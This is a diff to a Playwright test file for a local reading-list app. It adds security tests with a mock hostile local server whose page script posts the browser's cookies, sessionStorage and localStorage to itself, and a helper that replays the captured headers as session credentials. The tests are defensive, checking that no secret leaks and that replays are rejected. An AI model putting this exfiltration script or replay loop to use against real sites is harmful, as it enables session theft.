@@ -4,11 +4,15 @@ read / unread, the PDF offline, delete and undo; hostile titles and authors rend
 from __future__ import annotations
 
 import asyncio
+import json
+import re
 from collections.abc import Callable, Iterator
 from pathlib import Path
 from typing import Any
 
+import aiohttp
 import pytest
+from aiohttp import web
 from playwright.async_api import Browser, Page, expect
 
 from tests.support.library_site import LibrarySite
@@ -152,20 +156,18 @@ async def test_search_tags_notes_read_pdf_delete_and_undo(chromium: Browser, sit
     await page.select_option("#state", "all")
     await expect(sae.locator(".badge")).to_have_text("Unread")
 
-    # The PDF opens from the library, with every paper server gone.
-    href = await sae.locator(".pdf").get_attribute("href")
-    assert href == "/library/pdf/2307.12345"
-    kind, magic = await page.evaluate(
-        """async (href) => { const r = await fetch(href);
-             const b = new Uint8Array(await r.arrayBuffer());
-             return [r.headers.get('content-type'), String.fromCharCode(...b.slice(0, 5))]; }""",
-        href,
-    )
-    assert (kind, magic) == ("application/pdf", "%PDF-")
-    async with page.expect_popup() as popup_info:
+    # The PDF opens from the library, with every paper server gone: fetched with the page's session header (a
+    # plain link could not send it) and shown from a blob: URL in a new tab.
+    async with (
+        page.expect_response(f"{site.url}/library/pdf/2307.12345") as pdf_info,
+        page.expect_popup() as popup_info,
+    ):
         await sae.locator(".pdf").click()
+    pdf = await pdf_info.value
+    assert pdf.status == 200 and pdf.headers["content-type"] == "application/pdf"
     popup = await popup_info.value
-    assert popup.url == f"{site.url}/library/pdf/2307.12345"
+    await popup.wait_for_url(lambda url: url.startswith(f"blob:{site.url}/"))
+    assert await popup.evaluate("document.contentType") == "application/pdf"
     await popup.close()
 
     # Delete, then undo.
@@ -215,4 +217,102 @@ async def test_a_login_link_followed_from_another_site_still_opens_the_list(
     await page.click("#go")
     await page.wait_for_selector('body[data-ready="true"]')
     assert await page.locator("li.card").count() == 2 + len(XSS)
+    await context.close()
+
+
+class OtherLocalServer:
+    """Another server on 127.0.0.1, on its own port, as any local program can run: it records everything the
+    browser sends it, under any path (`/library/…` included, where the old session cookie was scoped)."""
+
+    PAGE = (
+        "<!doctype html><title>other</title><img src='/library/pixel.png'>"
+        "<script>fetch('/library/api/papers', {credentials: 'include'});"
+        "fetch('/report', {method: 'POST', body: JSON.stringify({cookie: document.cookie,"
+        " session: JSON.stringify(sessionStorage), local: JSON.stringify(localStorage)})});</script>"
+    )
+
+    def __init__(self) -> None:
+        self.received: list[dict[str, str]] = []
+        self.reports: list[str] = []
+        self.runner: web.AppRunner | None = None
+        self.port = 0
+
+    async def handle(self, request: web.Request) -> web.Response:
+        self.received.append(dict(request.headers))
+        if request.path == "/report":
+            self.reports.append(await request.text())
+        return web.Response(text=self.PAGE, content_type="text/html")
+
+    async def __aenter__(self) -> OtherLocalServer:
+        app = web.Application()
+        app.router.add_route("*", "/{tail:.*}", self.handle)
+        self.runner = web.AppRunner(app, access_log=None)
+        await self.runner.setup()
+        site = web.TCPSite(self.runner, "127.0.0.1", 0)
+        await site.start()
+        self.port = int(self.runner.addresses[0][1])
+        return self
+
+    async def __aexit__(self, *exc: object) -> None:
+        assert self.runner is not None
+        await self.runner.cleanup()
+
+
+async def replays(site: LibrarySite, received: list[dict[str, str]]) -> list[int]:
+    """Replay every header value the other server got, as a cookie and as the page's session header."""
+    statuses = []
+    async with aiohttp.ClientSession(cookie_jar=aiohttp.DummyCookieJar()) as http:
+        for headers in received:
+            for name, value in headers.items():
+                if name.lower() in ("host", "content-length"):
+                    continue
+                candidates = {value, *re.findall(r"[A-Za-z0-9_-]{20,}", value)}
+                for candidate in candidates:
+                    for sent in ({"Cookie": candidate}, {"X-Papertray-Session": candidate}, {name: value}):
+                        async with http.get(f"{site.url}/library/api/papers", headers=sent) as response:
+                            statuses.append(response.status)
+    return statuses
+
+
+async def test_s3_another_local_port_receives_nothing_it_can_replay(chromium: Browser, site: LibrarySite) -> None:
+    page, _dialogs, _problems = await open_page(chromium, site)
+    await card(page, "2307.12345").locator(".read-toggle").click()
+    await until(lambda: site.store.get_state("2307.12345").read)
+    secret = await page.evaluate("sessionStorage.getItem('papertray-session')")
+    assert secret and len(secret) >= 40
+    async with OtherLocalServer() as other:
+        # The user visits another local server in a new tab, and in the reading list's own tab.
+        visitor = await page.context.new_page()
+        await visitor.goto(f"http://127.0.0.1:{other.port}/library/")
+        await until(lambda: len(other.reports) == 1 and len(other.received) >= 3)
+        await page.goto(f"http://127.0.0.1:{other.port}/library/api/papers")
+        await until(lambda: len(other.reports) == 2)
+        received = list(other.received)
+    everything = json.dumps(received) + json.dumps(other.reports)
+    assert secret not in everything
+    assert not any("cookie" in {k.lower() for k in headers} for headers in received), "no cookie reached it"
+    statuses = await replays(site, received)
+    assert statuses and set(statuses) <= {401, 403}, "nothing it received opens the reading list"
+    assert site.store.get_state("2307.12345").saved, "the replays changed nothing"
+
+
+async def test_s4_the_launcher_file_opens_the_list_in_real_chromium(chromium: Browser, site: LibrarySite) -> None:
+    launcher = site.launcher_file()
+    assert launcher.exists()
+    context = await chromium.new_context()
+    page = await context.new_page()
+    await page.goto(launcher.as_uri())
+    await page.wait_for_selector('body[data-ready="true"]')
+    assert page.url == f"{site.url}/library/"
+    assert await page.locator("li.card").count() == 2 + len(XSS)
+    assert not launcher.exists(), "the file is deleted once used"
+    # A reload keeps the session (it lives in the tab's sessionStorage) and repeats no login.
+    await page.reload()
+    await page.wait_for_selector('body[data-ready="true"]')
+    assert page.url == f"{site.url}/library/"
+    # Ending every session (CLI, tray, `token revoke --all`) locks the open page out at its next request.
+    assert await asyncio.to_thread(site.end_sessions) == 1
+    await page.reload()
+    await page.wait_for_selector('body[data-ready="error"]')
+    assert "papertray open" in (await page.text_content("#message") or "")
     await context.close()
